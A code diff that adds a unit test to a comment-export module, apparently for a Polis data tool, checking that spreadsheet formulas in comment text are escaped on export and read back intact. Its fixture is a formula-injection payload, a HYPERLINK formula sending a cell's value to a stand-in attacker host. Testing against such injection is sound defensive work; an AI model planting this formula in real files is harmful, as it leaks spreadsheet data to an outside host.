@@ -147,6 +147,21 @@ class WritingTests(SimpleTestCase):
             ],
         )
 
+    def test_a_text_a_spreadsheet_would_run_is_written_as_text_and_reads_back(self) -> None:
+        formula = '=HYPERLINK("http://evil.example/?"&A1)'
+        row = polis_io.CommentRow(
+            comment_id=1,
+            author_id="0",
+            body=formula,
+            moderated=0,
+            created_at=self.at,
+            agrees=0,
+            disagrees=0,
+        )
+        written = polis_io.write_comments([row])
+        self.assertIn("'=HYPERLINK", written)
+        self.assertEqual(polis_io.read_comments(written)[0].body, formula)
+
     def test_the_header_is_polis_own(self) -> None:
         self.assertTrue(polis_io.write_comments([]).startswith(COMMENTS_HEADER))
         self.assertTrue(polis_io.write_votes([]).startswith(VOTES_HEADER))
